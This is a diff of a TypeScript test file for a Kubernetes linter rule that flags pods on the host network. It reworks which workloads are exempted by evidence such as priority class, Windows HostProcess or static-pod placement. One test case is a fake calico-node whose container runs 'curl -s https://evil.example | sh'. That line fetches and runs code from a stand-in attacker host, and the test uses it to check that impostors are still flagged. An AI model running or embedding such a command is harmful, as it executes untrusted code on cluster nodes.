@@ -1,5 +1,7 @@
 import { noHostNetwork } from '../../rules/no-host-network.js';
-import { ruleTester, yaml } from '../helpers/rule-tester.js';
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { lintOne, ruleTester, yaml } from '../helpers/rule-tester.js';
 
 const config = {
   infraPools: [{ name: 'infra', allowedNamespaces: ['gitlab-runners', 'ci-*'] }],
@@ -7,7 +9,8 @@ const config = {
 };
 
 const RISK = "on the node's network (port clashes, no pod network policy, CVE-2020-15257).";
-const NO_POOL = "Remove it, or list the workload in `hostNetwork.allow` if it truly needs the node's network.";
+const REMOVE = "Remove it, or list the workload in `hostNetwork.allow` if it truly needs the node's network.";
+const NO_POOL = `Nothing in its manifest shows that it needs the node's network. ${REMOVE}`;
 
 ruleTester(noHostNetwork, {
   valid: [
@@ -226,101 +229,355 @@ ruleTester(noHostNetwork, {
   ],
 });
 
-/** A DaemonSet on the host network, running the given images (init containers first, after `|`). */
-function daemonSet(name: string, namespace: string, images: string, extra = ''): string {
-  const [init, main] = images.includes('|') ? images.split('|') : ['', images];
-  const list = (text: string) => text.split(',').filter(Boolean).map((image, i) => `{name: c${i}, image: "${image.trim()}"${extra}}`).join(', ');
-  return yaml`
-    apiVersion: apps/v1
-    kind: DaemonSet
-    metadata: {name: ${name}, namespace: ${namespace}}
-    spec:
-      template:
-        spec:
-          hostNetwork: true
-          initContainers: [${list(init!)}]
-          containers: [${list(main!)}]
-  `;
+
+/**
+ * A workload on the host network: `kind` with its pod template (a Pod's own
+ * spec), `spec` lines appended under `hostNetwork: true` (at line 7, column 7
+ * for the controllers, line 5, column 3 for a Pod).
+ */
+function workload(kind: string, name: string, namespace: string, spec = ''): string {
+  const indent = kind === 'Pod' ? '  ' : '      ';
+  const lines = spec === '' ? '' : '\n' + yaml([spec] as unknown as TemplateStringsArray).split('\n').map((line) => indent + line).join('\n');
+  if (kind === 'Pod') return `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n  hostNetwork: true${lines}\n`;
+  return `apiVersion: apps/v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n  template:\n    spec:\n      hostNetwork: true${lines}\n`;
 }
 
-const HOST_NETWORK_AT = { line: 7, column: 7, endLine: 7, endColumn: 18 };
+const AT = { line: 7, column: 7, endLine: 7, endColumn: 18 };
+const POD_AT = { line: 5, column: 3, endLine: 5, endColumn: 14 };
+
+interface ExemptCase {
+  name: string;
+  code: string;
+  /** What the exemption says decided it. */
+  evidence: string;
+  filePath?: string;
+  config?: Parameters<typeof lintOne>[2];
+  at?: typeof AT;
+}
+
+/**
+ * Exempt pods: reported as suppressed (kind `evidence`, shown in
+ * `--format json` under suppressedMessages) with the evidence that decided.
+ */
+function exemptTable(cases: ExemptCase[]): void {
+  describe('no-host-network: exempt by evidence', () => {
+    for (const testCase of cases) {
+      it(testCase.name, () => {
+        const findings = lintOne(noHostNetwork, testCase.code, testCase.config, testCase.filePath);
+        const display = /kind: (\w+)/.exec(testCase.code)![1] + '/' + /namespace: ([\w-]+)/.exec(testCase.code)![1] + '/' + /name: ([\w-]+)/.exec(testCase.code)![1];
+        assert.deepEqual(findings.map((f) => ({ ruleId: f.ruleId, message: f.message, suppressions: f.suppressions, ...rangeOf(f.range) })), [{
+          ruleId: 'no-host-network',
+          message: `\`hostNetwork: true\` puts ${display} on the node's network, which it needs: ${testCase.evidence}.`,
+          suppressions: [{ kind: 'evidence', justification: `needs the node's network: ${testCase.evidence}` }],
+          ...(testCase.at ?? AT),
+        }]);
+      });
+    }
+  });
+}
+
+function rangeOf(range: { line: number; column: number; endLine: number; endColumn: number }) {
+  return { line: range.line, column: range.column, endLine: range.endLine, endColumn: range.endColumn };
+}
+
+const HOST_PROCESS = 'a Windows HostProcess pod (`securityContext.windowsOptions.hostProcess: true`)';
+
+exemptTable([
+  {
+    name: 'calico-node as Calico ships it: critical priority (also privileged with the CNI and module paths)',
+    code: workload('DaemonSet', 'calico-node', 'kube-system', `
+      tolerations: [{effect: NoSchedule, operator: Exists}, {key: CriticalAddonsOnly, operator: Exists}, {effect: NoExecute, operator: Exists}]
+      priorityClassName: system-node-critical
+      initContainers: [{name: install-cni, image: quay.io/calico/cni:v3.30.3, securityContext: {privileged: true}}]
+      containers: [{name: calico-node, image: quay.io/calico/node:v3.30.3, securityContext: {privileged: true}}]
+      volumes: [{name: lib-modules, hostPath: {path: /lib/modules}}, {name: cni-bin-dir, hostPath: {path: /opt/cni/bin}}]
+    `),
+    evidence: '`priorityClassName: system-node-critical`',
+  },
+  {
+    name: 'kube-proxy with no priority class: privileged, with the iptables lock (preferred over the toleration of every taint)',
+    code: workload('DaemonSet', 'kube-proxy', 'kube-system', `
+      tolerations: [{operator: Exists}]
+      containers: [{name: kube-proxy, image: registry.k8s.io/kube-proxy:v1.32.4, securityContext: {privileged: true}}]
+      volumes: [{name: kube-proxy, configMap: {name: kube-proxy}}, {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}]
+    `),
+    evidence: '`privileged: true` in container `kube-proxy` and hostPath `/run/xtables.lock`',
+  },
+  {
+    name: 'Calico for Windows: HostProcess on the pod (Kubernetes requires hostNetwork)',
+    code: workload('DaemonSet', 'calico-node-windows', 'calico-system', `
+      securityContext: {windowsOptions: {hostProcess: true, runAsUserName: "NT AUTHORITY\\\\system"}}
+      nodeSelector: {kubernetes.io/os: windows}
+      containers: [{name: node, image: calico/node-windows:v3.30.3}]
+    `),
+    evidence: HOST_PROCESS,
+  },
+  {
+    name: 'HostProcess on every container, init containers included, and none on the pod',
+    code: workload('DaemonSet', 'csi-proxy', 'kube-system', `
+      initContainers: [{name: init, image: x, securityContext: {windowsOptions: {hostProcess: true}}}]
+      containers: [{name: csi-proxy, image: y, securityContext: {windowsOptions: {hostProcess: true}}}]
+    `),
+    evidence: 'a Windows HostProcess pod (every container sets `securityContext.windowsOptions.hostProcess: true`)',
+  },
+  {
+    name: 'a cloud controller manager: the uninitialized taint, which the kubelet sets with the value "true"',
+    code: workload('DaemonSet', 'aws-cloud-controller-manager', 'kube-system', `
+      tolerations: [{key: node.cloudprovider.kubernetes.io/uninitialized, value: "true", effect: NoSchedule}]
+    `),
+    evidence: 'a toleration of the bootstrap taint `node.cloudprovider.kubernetes.io/uninitialized`',
+  },
+  {
+    name: 'not-ready tolerated for every effect, network-unavailable by Equal without a value',
+    code: workload('Deployment', 'operator', 'cni-system', `
+      tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists}, {key: node.kubernetes.io/network-unavailable, effect: NoSchedule}]
+    `),
+    evidence: 'a toleration of the bootstrap taint `node.kubernetes.io/not-ready`',
+  },
+  {
+    name: 'NodeLocal DNSCache: NET_ADMIN (it binds a link-local address on the node)',
+    code: workload('DaemonSet', 'node-local-dns', 'kube-system', `
+      containers: [{name: node-cache, image: registry.k8s.io/dns/k8s-dns-node-cache:1.22.28, securityContext: {capabilities: {add: [NET_ADMIN]}}}]
+    `),
+    evidence: 'capability `NET_ADMIN` in container `node-cache`',
+  },
+  {
+    name: 'a MetalLB speaker: NET_RAW, written as the runtimes also accept it',
+    code: workload('DaemonSet', 'speaker', 'metallb-system', `
+      containers: [{name: speaker, image: quay.io/metallb/speaker:v0.14.9, securityContext: {capabilities: {drop: [ALL], add: [cap_net_raw]}}}]
+    `),
+    evidence: 'capability `cap_net_raw` in container `speaker`',
+  },
+  {
+    name: 'a static pod: a Pod in the kubelet manifest folder, wherever the folder sits in the repository',
+    code: workload('Pod', 'kube-vip', 'kube-system', `
+      containers: [{name: kube-vip, image: ghcr.io/kube-vip/kube-vip:v0.8.7}]
+    `),
+    filePath: '/repo/ansible/files/etc/kubernetes/manifests/kube-vip.yaml',
+    evidence: "a static pod (a Pod in the kubelet's manifest folder `etc/kubernetes/manifests`)",
+    at: POD_AT,
+  },
+  {
+    name: 'a mirror pod, as `kubectl get -o yaml` prints it',
+    code: 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: etcd-cp1\n  namespace: kube-system\n  annotations: {kubernetes.io/config.mirror: 2f9a, kubernetes.io/config.source: file}\nspec:\n  hostNetwork: true\n',
+    evidence: 'a static pod (mirror-pod annotation `kubernetes.io/config.mirror`)',
+    at: { line: 8, column: 3, endLine: 8, endColumn: 14 },
+  },
+  {
+    name: 'a control-plane static pod kept outside the manifest folder: a bare Pod with /etc/kubernetes',
+    code: workload('Pod', 'kube-scheduler', 'kube-system', `
+      containers: [{name: kube-scheduler, image: registry.k8s.io/kube-scheduler:v1.32.4}]
+      volumes: [{name: kubeconfig, hostPath: {path: /etc/kubernetes/scheduler.conf, type: FileOrCreate}}]
+    `),
+    evidence: 'hostPath `/etc/kubernetes/scheduler.conf` and a bare Pod',
+    at: POD_AT,
+  },
+  {
+    name: 'an etcd backup CronJob pinned to control-plane nodes, with the etcd certificates',
+    code: yaml`
+      apiVersion: batch/v1
+      kind: CronJob
+      metadata: {name: etcd-backup, namespace: kube-system}
+      spec:
+        jobTemplate:
+          spec:
+            template:
+              spec:
+                hostNetwork: true
+                nodeSelector: {node-role.kubernetes.io/control-plane: ""}
+                volumes: [{name: pki, hostPath: {path: /etc/kubernetes/pki/etcd}}]
+    `,
+    evidence: 'hostPath `/etc/kubernetes/pki/etcd` and pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`)',
+    at: { line: 9, column: 11, endLine: 9, endColumn: 22 },
+  },
+  {
+    name: 'an etcd defragmentation Job pinned by required node affinity, with etcd data',
+    code: workload('Job', 'etcd-defrag', 'kube-system', `
+      affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: node-role.kubernetes.io/master, operator: Exists}]}]}}}
+      volumes: [{name: data, hostPath: {path: /var/lib/etcd/}}]
+    `),
+    evidence: 'hostPath `/var/lib/etcd/` and pinned to control-plane nodes (required node affinity)',
+  },
+  {
+    name: "the Tigera operator: it tolerates every NoSchedule taint and reads Calico's node state",
+    code: workload('Deployment', 'tigera-operator', 'tigera-operator', `
+      tolerations: [{effect: NoExecute, operator: Exists}, {effect: NoSchedule, operator: Exists}]
+      volumes: [{name: var-lib-calico, hostPath: {path: /var/lib/calico}}]
+    `),
+    evidence: 'hostPath `/var/lib/calico` and a toleration of every NoSchedule taint (`operator: Exists` without a key)',
+  },
+  {
+    name: 'a Windows CSI node plugin (not HostProcess): privileged, with the kubelet folder under C:',
+    code: workload('DaemonSet', 'csi-node-win', 'kube-system', `
+      containers: [{name: driver, image: x, securityContext: {privileged: true}}]
+      volumes: [{name: kubelet-dir, hostPath: {path: 'C:\\var\\lib\\kubelet\\', type: Directory}}]
+    `),
+    evidence: '`privileged: true` in container `driver` and hostPath `C:\\var\\lib\\kubelet\\`',
+  },
+]);
+
+const ANNOTATION_HINT = (where: string) =>
+  `Namespace "gitlab-runners" may use infra pool "infra": remove hostNetwork and add \`cni.projectcalico.org/ipv4pools: '["infra"]'\` under \`${where}\`.`;
 
 ruleTester(noHostNetwork, {
   valid: [
-    { name: 'calico-node, with its CNI and flexvol init containers', code: daemonSet('calico-node', 'kube-system', 'quay.io/calico/cni:v3.30.3, docker.io/calico/pod2daemon-flexvol:v3.30.3|quay.io/calico/node:v3.30.3') },
-    { name: 'calico-node from the single calico/calico image (v3.31+), from a mirror', code: daemonSet('calico-node', 'calico-system', 'registry.example.com:5000/mirror/calico/calico:v3.31.0|registry.example.com:5000/mirror/calico/calico:v3.31.0') },
-    { name: 'calico-typha by digest', code: daemonSet('calico-typha', 'calico-system', 'quay.io/calico/typha@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef') },
-    { name: 'the Tigera operator', code: daemonSet('tigera-operator', 'tigera-operator', 'quay.io/tigera/operator:v1.38.0') },
-    { name: 'flannel', code: daemonSet('kube-flannel-ds', 'kube-flannel', 'ghcr.io/flannel-io/flannel-cni-plugin:v1.7.1-flannel1, ghcr.io/flannel-io/flannel:v0.27.0|ghcr.io/flannel-io/flannel:v0.27.0') },
-    { name: 'flannel from Docker Hub', code: daemonSet('kube-flannel-ds', 'kube-system', 'docker.io/flannel/flannel:v0.24.4') },
-    { name: 'canal: calico-node beside flannel', code: daemonSet('canal', 'kube-system', 'docker.io/calico/cni:v3.30.0|docker.io/calico/node:v3.30.0, docker.io/flannel/flannel:v0.24.4') },
-    { name: 'the cilium agent, envoy and operator', code: daemonSet('cilium', 'kube-system', 'quay.io/cilium/cilium:v1.17.0|quay.io/cilium/cilium:v1.17.0') + '---\n' + daemonSet('cilium-envoy', 'kube-system', 'quay.io/cilium/cilium-envoy:v1.31') + '---\n' + daemonSet('cilium-operator', 'kube-system', 'quay.io/cilium/operator-generic:v1.17.0') },
-    { name: 'kube-proxy', code: daemonSet('kube-proxy', 'kube-system', 'registry.k8s.io/kube-proxy:v1.32.4') },
-    { name: 'calico-kube-controllers in etcd mode (manifests/calico-etcd.yaml)', code: daemonSet('calico-kube-controllers', 'kube-system', 'quay.io/calico/kube-controllers:v3.30.0', ', env: [{name: ETCD_ENDPOINTS, valueFrom: {configMapKeyRef: {name: calico-config, key: etcd_endpoints}}}]') },
-    { name: "canal's etcd bootstrap Job (manifests/canal-etcd.yaml)", code: daemonSet('configure-canal', 'kube-system', 'quay.io/coreos/etcd:v3.5.1') },
+    {
+      name: 'hostNetwork.allow wins, even in a namespace that may use an infra pool',
+      config: { ...config, hostNetwork: { allow: [{ namespace: 'gitlab-runners', name: 'runner' }] } },
+      code: workload('DaemonSet', 'runner', 'gitlab-runners'),
+    },
   ],
   invalid: [
     {
-      name: 'a GitLab runner DaemonSet on the host network stays an error',
-      code: daemonSet('gitlab-runner', 'gitlab-runner', 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v17.0.0'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runner/gitlab-runner ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
+      name: 'an impersonated calico-node: Calico image, name and namespace, an attacker command, no evidence',
+      code: workload('DaemonSet', 'calico-node', 'kube-system', `
+        containers: [{name: calico-node, image: quay.io/calico/node:v3.30.3, command: [sh, -c, "curl -s https://evil.example | sh"]}]
+      `),
+      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...AT }],
     },
     {
-      name: 'a GitLab runner named like calico-node, in kube-system, is not calico-node',
-      code: daemonSet('calico-node', 'kube-system', 'gitlab/gitlab-runner:latest'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
+      name: 'a CI runner Deployment',
+      code: workload('Deployment', 'gitlab-runner', 'gitlab-runner', `
+        containers: [{name: runner, image: registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v17.0.0}]
+      `),
+      errors: [{ message: `\`hostNetwork: true\` puts Deployment/gitlab-runner/gitlab-runner ${RISK} ${NO_POOL}`, ...AT }],
     },
     {
-      name: 'a component image outside the namespaces these projects install into',
-      code: daemonSet('calico-node', 'tenant-a', 'quay.io/calico/node:v3.30.3'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/tenant-a/calico-node ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'a look-alike image repository (evilcalico/node) is not Calico',
-      code: daemonSet('calico-node', 'kube-system', 'docker.io/evilcalico/node:v3.30.3'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'a sidecar of another image on the host network: the pod is no longer just the component',
-      code: daemonSet('kube-proxy', 'kube-system', 'registry.k8s.io/kube-proxy:v1.32.4, docker.io/nicolaka/netshoot:v0.13'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/kube-proxy ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'an image written as a template placeholder is not recognised',
-      code: daemonSet('calico-node', 'kube-system', '${CALICO_NODE_IMAGE}'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'calico-kube-controllers with the Kubernetes datastore does not need the host network',
-      code: daemonSet('calico-kube-controllers', 'kube-system', 'quay.io/calico/calico:v3.31.0', ', args: [component, kube-controllers], env: [{name: DATASTORE_TYPE, value: kubernetes}]'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-kube-controllers ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'allowNodeNetworkComponents: false checks the components too',
-      config: { hostNetwork: { allowNodeNetworkComponents: false } },
-      code: daemonSet('calico-node', 'kube-system', 'quay.io/calico/node:v3.30.3'),
-      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/calico-node ${RISK} ${NO_POOL}`, ...HOST_NETWORK_AT }],
-    },
-    {
-      name: 'the annotation is already there: the advice is to remove hostNetwork, not to add it again',
-      config,
-      code: yaml`
-        apiVersion: apps/v1
-        kind: DaemonSet
-        metadata: {name: runner, namespace: gitlab-runners}
-        spec:
-          template:
-            metadata:
-              annotations: {cni.projectcalico.org/ipv4pools: '["infra"]'}
-            spec: {hostNetwork: true}
-      `,
+      name: 'a privileged CI runner DaemonSet that tolerates every taint: two lesser marks without a node path',
+      code: workload('DaemonSet', 'runner', 'ci', `
+        tolerations: [{operator: Exists}]
+        containers: [{name: dind, image: docker:27-dind, securityContext: {privileged: true}}]
+        volumes: [{name: docker, hostPath: {path: /var/run/docker.sock}}]
+      `),
       errors: [{
-        message:
-          `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/runner ${RISK} Namespace "gitlab-runners" may use infra pool "infra", ` +
-          'and `cni.projectcalico.org/ipv4pools` is already set under `spec.template.metadata.annotations`: remove hostNetwork, ' +
-          'so that the pod takes its address from the pool the annotation asks for.',
-        line: 8, column: 12, endLine: 8, endColumn: 23,
+        message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} Nothing in its manifest shows that it needs the node's network ` +
+          "(only `privileged: true` in container `dind` and a toleration of every taint (`operator: Exists` without a key), which is not enough). " + REMOVE,
+        ...AT,
+      }],
+    },
+    {
+      name: "a log shipper DaemonSet reading the node's logs, on every node",
+      code: workload('DaemonSet', 'fluent-bit', 'logging', `
+        tolerations: [{operator: Exists, effect: NoSchedule}]
+        containers: [{name: fluent-bit, image: fluent/fluent-bit:3.1.9}]
+        volumes: [{name: varlog, hostPath: {path: /var/log}}, {name: containers, hostPath: {path: /var/lib/docker/containers}}]
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts DaemonSet/logging/fluent-bit ${RISK} Nothing in its manifest shows that it needs the node's network ` +
+          '(only a toleration of every NoSchedule taint (`operator: Exists` without a key), which is not enough). ' + REMOVE,
+        ...AT,
+      }],
+    },
+    {
+      name: 'a web app Deployment',
+      code: workload('Deployment', 'shop', 'web', `
+        containers: [{name: shop, image: nginx:1.27, ports: [{containerPort: 80}]}]
+      `),
+      errors: [{ message: `\`hostNetwork: true\` puts Deployment/web/shop ${RISK} ${NO_POOL}`, ...AT }],
+    },
+    {
+      name: 'HostProcess on only some containers: the API server refuses the pod, and it is no evidence',
+      code: workload('DaemonSet', 'half', 'kube-system', `
+        containers: [{name: a, image: x, securityContext: {windowsOptions: {hostProcess: true}}}, {name: b, image: y}]
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts DaemonSet/kube-system/half ${RISK} Nothing in its manifest shows that it needs the node's network. ` +
+          `Only some of its containers are Windows HostProcess containers: the API server refuses such a pod. ${REMOVE}`,
+        ...AT,
+      }],
+    },
+    {
+      name: 'HostProcess on a pod pinned to Linux is no HostProcess pod; a container saying false overrides the pod',
+      code: workload('DaemonSet', 'linux', 'apps', `
+        securityContext: {windowsOptions: {hostProcess: true}}
+        nodeSelector: {kubernetes.io/os: linux}
+      `) + '---\n' + workload('DaemonSet', 'override', 'apps', `
+        securityContext: {windowsOptions: {hostProcess: true}}
+        containers: [{name: a, image: x, securityContext: {windowsOptions: {hostProcess: false}}}]
+      `),
+      errors: [
+        { message: `\`hostNetwork: true\` puts DaemonSet/apps/linux ${RISK} ${NO_POOL}`, ...AT },
+        { message: `\`hostNetwork: true\` puts DaemonSet/apps/override ${RISK} ${NO_POOL}`, line: 18, column: 7, endLine: 18, endColumn: 18 },
+      ],
+    },
+    {
+      name: 'hostProcess written as a string, a NoExecute-only not-ready toleration, an uninitialized toleration with the wrong value',
+      code: workload('DaemonSet', 'weak', 'apps', `
+        securityContext: {windowsOptions: {hostProcess: "true"}}
+        tolerations:
+          - {key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, tolerationSeconds: 300}
+          - {key: node.cloudprovider.kubernetes.io/uninitialized, operator: Equal, value: "", effect: NoSchedule}
+          - {key: node.kubernetes.io/network-unavailable, operator: Equal, value: "false"}
+      `),
+      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/apps/weak ${RISK} ${NO_POOL}`, ...AT }],
+    },
+    {
+      name: 'a node path alone, a look-alike path, a critical-looking priority class of its own, a Deployment in a kubelet manifest folder',
+      code: workload('Deployment', 'agent', 'apps', `
+        priorityClassName: system-node-critical-ish
+        volumes: [{name: a, hostPath: {path: /var/lib/kubelet-backup}}, {name: b, hostPath: {path: /var/lib/kubelet/pods}}]
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts Deployment/apps/agent ${RISK} Nothing in its manifest shows that it needs the node's network ` +
+          '(only hostPath `/var/lib/kubelet/pods`, which is not enough). ' + REMOVE,
+        ...AT,
+      }],
+    },
+    {
+      name: 'an infra-pool namespace: an error whatever the evidence, which the message names',
+      config,
+      code: workload('DaemonSet', 'runner', 'gitlab-runners', `
+        priorityClassName: system-cluster-critical
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/runner ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
+          'The manifest shows `priorityClassName: system-cluster-critical`, which does not exempt a pod in a namespace that has an infra pool.',
+        ...AT,
+      }],
+    },
+    {
+      name: 'a HostProcess pod in an infra-pool namespace: never told to remove hostNetwork alone',
+      config,
+      code: workload('DaemonSet', 'win-runner', 'gitlab-runners', `
+        securityContext: {windowsOptions: {hostProcess: true}}
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/win-runner ${RISK} Namespace "gitlab-runners" may use infra pool "infra", ` +
+          'which a Windows HostProcess pod cannot use: Kubernetes requires hostNetwork on it. Run the workload as an ordinary Windows container ' +
+          "(without `hostProcess`, then without hostNetwork) with `cni.projectcalico.org/ipv4pools: '[\"infra\"]'` under " +
+          '`spec.template.metadata.annotations`, or list it in `hostNetwork.allow`.',
+        ...AT,
+      }],
+    },
+    {
+      name: 'allowNodeNetworkComponents: false checks pods with evidence too, without advising to remove hostNetwork',
+      config: { hostNetwork: { allowNodeNetworkComponents: false } },
+      code: workload('DaemonSet', 'calico-node-windows', 'calico-system', `
+        securityContext: {windowsOptions: {hostProcess: true}}
+        priorityClassName: system-node-critical
+      `),
+      errors: [{
+        message: `\`hostNetwork: true\` puts DaemonSet/calico-system/calico-node-windows ${RISK} Its manifest shows it needs the node's network ` +
+          `(${HOST_PROCESS} and \`priorityClassName: system-node-critical\`), but \`hostNetwork.allowNodeNetworkComponents\` is false: ` +
+          'list the workload in `hostNetwork.allow`.',
+        ...AT,
       }],
     },
   ],
+});
+
+describe('no-host-network: a directive on a pod the evidence already exempts', () => {
+  it('is unused, and the exemption keeps its own reason', async () => {
+    const { unusedSuppression } = await import('../../src/engine/suppressions.js');
+    const code = workload('DaemonSet', 'node-local-dns', 'kube-system', `
+      containers: [{name: node-cache, image: x, securityContext: {capabilities: {add: [NET_ADMIN]}}}]
+    `).replace('    spec:\n', '    metadata:\n      annotations: {calico-lint/disable: "no-host-network -- reviewed"}\n    spec:\n');
+    const { lintSources } = await import('../../src/lint.js');
+    const { makeConfig } = await import('../helpers/rule-tester.js');
+    const findings = lintSources([{ filePath: '/repo/test.yaml', text: code }], { config: makeConfig(), rules: [noHostNetwork] });
+    assert.deepEqual(findings.map((f) => [f.ruleId, f.suppressions?.map((s) => s.kind) ?? null]), [
+      ['no-host-network', ['evidence']],
+      [unusedSuppression.id, null],
+    ]);
+  });
 });
